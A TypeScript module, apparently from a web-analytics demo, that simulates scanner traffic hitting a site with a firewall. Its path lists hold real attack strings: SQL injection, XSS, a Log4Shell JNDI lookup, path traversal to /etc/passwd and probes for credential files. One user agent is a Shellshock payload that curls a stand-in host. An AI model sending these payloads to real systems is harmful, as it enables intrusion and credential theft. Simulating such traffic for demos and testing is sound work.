import type { Client } from './demo-request.js';
import { hostingNetworks } from './networks.js';
import { weighted } from './random.js';
import { type Resource, resource } from './resource.js';
import type { Scene, TrafficSource } from './scene.js';

/** Paths that scanners try on every site. They answer 404 here, or 403 from the firewall. */
const wordPress =
  '/wp-login.php /xmlrpc.php /wp-admin/ /wp-admin/install.php /wp-json/wp/v2/users /blog/wp-login.php /wp-includes/wlwmanifest.xml';
const secrets =
  '/.env /.env.local /.env.production /api/.env /.git/config /.git/HEAD /.aws/credentials /config.json /backup.sql /dump.sql.gz /backup.zip /.vscode/sftp.json /.DS_Store /server-status /actuator/env /phpinfo.php';
const panels =
  '/phpmyadmin/ /pma/ /admin/ /administrator/ /manager/html /cgi-bin/luci/;stok=/locale /HNAP1/ /solr/admin/info/system /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /shell.php /alfa.php';
const injections =
  '/search?q=1%27%20OR%20%271%27=%271 /search?q=%27%20UNION%20SELECT%20null,version()-- /product.php?id=1%20AND%20SLEEP(5) /search?q=%3Cscript%3Ealert(1)%3C/script%3E /search?q=%24%7Bjndi:ldap://203.0.113.9/a%7D /index.php?page=../../../../etc/passwd /.%2e/%2e%2e/%2e%2e/etc/passwd /?cmd=id';
const SIGN_IN = '/account/sign-in';

const words = 'old new test dev backup db data api private tmp log upload files src web site'.split(' ');
const endings = ['', '/', '.zip', '.tar.gz', '.bak', '.php', '.sql', '.txt', '1', '2'];

const tools = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.5005.63 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.96 Safari/537.36',
  'python-requests/2.32.3',
  'Go-http-client/1.1',
  'curl/8.5.0',
  'Mozilla/5.0 zgrab/0.x',
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'l9explore/1.2.2',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  '() { :; }; /bin/bash -c "curl -s http://203.0.113.9/x"',
  '',
];

type Attack = [weight: number, probes: string[], burst: number, pauseMs: number, method: 'GET' | 'POST'];
const attacks: Attack[] = [
  [30, wordPress.split(' '), 12, 700, 'GET'],
  [4, ['/wp-login.php', '/xmlrpc.php'], 90, 300, 'POST'],
  [34, secrets.split(' '), 18, 400, 'GET'],
  [20, panels.split(' '), 12, 900, 'GET'],
  [5, injections.split(' '), 50, 250, 'GET'],
  [3, [SIGN_IN], 80, 350, 'POST'],
  // A wordlist run: hundreds of invented names within minutes.
  [1.2, [], 420, 90, 'GET'],
];
const anyAttack = weighted(attacks, ([weight]) => weight);

/** Scanners, credential stuffers and wordlist runs from rented servers. */
export function createScanners({ serve, random, site }: Scene, share: number): TrafficSource {
  const signIn: Resource = { ...site.signIn, status: 401 };
  const probe = (path: string) =>
    path === SIGN_IN ? signIn : resource('probe', path, 0, 60, { status: 404 });
  const wordlistPath = () =>
    `/${random.pick(words)}${random.chance(0.3) ? `-${random.pick(words)}` : ''}${random.pick(endings)}`;

  return {
    share,
    // More traffic at night in Europe; bursts cause further variation.
    rhythm: (at) => (new Date(at).getUTCHours() < 7 ? 1.25 : 0.9),
    visit(start, emit) {
      const [, probes, burst, pauseMs, method] = anyAttack(random);
      const { addresses, country } = random.pick(hostingNetworks);
      const client: Client = {
        ...{ ip: addresses(random), country, userAgent: random.pick(tools) },
        ...{ protocol: 'HTTP/1.1', actor: 'scanner', bot: '' },
      };
      const requests = 1 + Math.floor(random.exponential(burst));
      // The firewall detects the scanner after a while, and then always refuses the address.
      const caughtAfter = random.chance(0.6) ? random.int(burst) : Number.POSITIVE_INFINITY;
      let at = start;
      for (let i = 0; i < requests; i++) {
        const path = probes.length === 0 ? wordlistPath() : random.pick(probes);
        emit(serve(client, probe(path), at, { method, ...(i >= caughtAfter && { refusedWith: 403 }) }));
        at += random.exponential(pauseMs);
      }
    },
  };
}
